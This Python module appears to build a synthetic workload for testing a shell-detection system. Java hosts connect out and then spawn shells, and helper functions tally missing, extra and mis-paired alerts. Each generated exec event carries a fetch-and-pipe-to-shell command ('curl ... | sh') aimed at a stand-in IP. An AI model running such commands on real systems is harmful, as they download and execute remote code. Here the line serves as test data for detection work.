"""A workload for the fault suite: Java hosts whose connections and shells interleave, with the traps of DESIGN §4.

Each host runs one Java process that connects out every ``period_ms`` (event time); after some of those
connections it spawns a shell within the 5 s maxspan, and sometimes a second connection comes first (conn,
conn, exec: the exec must pair with the newer one). Every exec runs its own command line, so no shell alert
is grouped away. Documents are returned in event-time order, the order a live feed produces them.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from typing import Any

import orjson

from shellwatch.samples.ecs_factory import connection, execution

__all__ = [
    "Accounting",
    "AccountingError",
    "account",
    "java_hosts",
    "matched_events",
    "mispair_lines",
    "mispairs",
    "missing_alerts",
    "missing_lines",
    "require_exact",
]


def java_hosts(*, hosts: int, span_ms: int, period_ms: int, start_ms: int, seed: int) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    docs: list[tuple[int, int, dict[str, Any]]] = []
    for h in range(hosts):
        host_id = f"fault-{seed}-{h:04d}"
        java_pid = 1_000 + h
        ts = start_ms + rng.randrange(period_ms)
        n = 0
        while ts < start_ms + span_ms:
            n += 1
            ip = f"185.{rng.randrange(1, 250)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            docs.append(
                (
                    ts,
                    len(docs),
                    connection(ts_ms=ts, host_id=host_id, pid=java_pid, dest_ip=ip, event_id=f"{host_id}-c{n}"),
                )
            )
            roll = rng.random()
            if roll < 0.15:  # a newer connection before the shell
                ts2 = ts + rng.randrange(100, 2_000)
                docs.append(
                    (
                        ts2,
                        len(docs),
                        connection(ts_ms=ts2, host_id=host_id, pid=java_pid, dest_ip=ip, event_id=f"{host_id}-c{n}b"),
                    )
                )
                ts = ts2
            if roll < 0.5:  # a shell within the maxspan (or, one time in ten, just past it)
                gap = rng.randrange(50, 4_900) if rng.random() < 0.9 else rng.randrange(5_100, 7_000)
                te = ts + gap
                docs.append(
                    (
                        te,
                        len(docs),
                        execution(
                            ts_ms=te,
                            host_id=host_id,
                            pid=50_000 + n,
                            parent_pid=java_pid,
                            event_id=f"{host_id}-e{n}",
                            args=["/bin/bash", "-c", f"curl -s http://203.0.113.7/{host_id}/{n} | sh"],
                        ),
                    )
                )
                ts = te
            ts += period_ms + rng.randrange(-period_ms // 4, period_ms // 4)
    docs.sort(key=lambda item: (item[0], item[1]))
    return [doc for _, _, doc in docs]


@dataclass(frozen=True)
class Accounting:
    run: str
    expected: int
    present: int
    missing: int
    extra: int
    duplicates: int  # alert records beyond the first of each id (same id: harmless redelivery)
    mispaired: int | None = None  # alert records of an expected id quoting other events than offline (if checked)

    def line(self) -> str:
        line = (
            f"{self.run}: expected {self.expected} / present {self.present} / missing {self.missing} / "
            f"extra {self.extra} / duplicates {self.duplicates}"
        )
        return line if self.mispaired is None else f"{line} / mispaired {self.mispaired}"


class AccountingError(AssertionError):
    """Alerts missing, extra or mis-paired (what an ``xfail(raises=...)`` of a known loss names)."""


def require_exact(result: Accounting, diagnosis: Callable[[], str] | None = None) -> None:
    """Raise :class:`AccountingError` unless nothing is missing, extra or mis-paired (duplicates are fine);
    ``diagnosis`` (e.g. the workers' log digest) is called then and its text added to the error."""
    if (result.missing, result.extra, result.mispaired or 0) != (0, 0, 0):
        raise AccountingError(result.line() if diagnosis is None else f"{result.line()}\n{diagnosis()}")


def missing_alerts(offline: list[dict[str, Any]], alerts: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """The offline alerts whose id is not among ``alerts``."""
    got = {str(a["event"]["id"]) for a in alerts}
    return [a for a in offline if str(a["event"]["id"]) not in got]


def missing_lines(offline: list[dict[str, Any]], alerts: list[dict[str, Any]], limit: int = 8) -> list[str]:
    """A few offline alerts that never came: rule, host, and the events they quote."""
    gone = missing_alerts(offline, alerts)
    return [f"missing: {a['rule']['id']} on host {a['host']['id']} quoting {matched_events(a)}" for a in gone[:limit]]


def matched_events(alert: Mapping[str, Any]) -> tuple[str, ...]:
    """The ``event.id`` of each event an alert quotes (its connection and exec, or its exec)."""
    events = orjson.loads(orjson.dumps(alert["detection"]["events"]))  # offline alerts quote orjson Fragments
    return tuple(str(event.get("event", {}).get("id")) for event in events)


def mispairs(
    alerts: list[dict[str, Any]], pairs: Mapping[str, tuple[str, ...]]
) -> list[tuple[tuple[str, ...], tuple[str, ...]]]:
    """(events quoted, events offline detection quotes) of each alert record of an expected id that differ."""
    quoted = ((matched_events(a), pairs.get(str(a["event"]["id"]))) for a in alerts)
    return [(live, offline) for live, offline in quoted if offline is not None and live != offline]


def mispair_lines(alerts: list[dict[str, Any]], pairs: Mapping[str, tuple[str, ...]], limit: int = 5) -> list[str]:
    found = mispairs(alerts, pairs)
    return [f"mis-paired: quotes {live}, offline detection {offline}" for live, offline in found[:limit]]


def account(
    run: str,
    expected: set[str],
    alerts: list[dict[str, Any]],
    pairs: Mapping[str, tuple[str, ...]] | None = None,
) -> Accounting:
    """``pairs``: the events each expected alert quotes offline (``{id: matched_events(alert)}``); when given,
    every alert record of an expected id is checked against them, since the id names the exec only: an exec
    paired with the wrong connection keeps its id."""
    ids = [str(a["event"]["id"]) for a in alerts]
    got = set(ids)
    mispaired = None if pairs is None else len(mispairs(alerts, pairs))
    return Accounting(
        run,
        len(expected),
        len(got & expected),
        len(expected - got),
        len(got - expected),
        len(ids) - len(got),
        mispaired,
    )
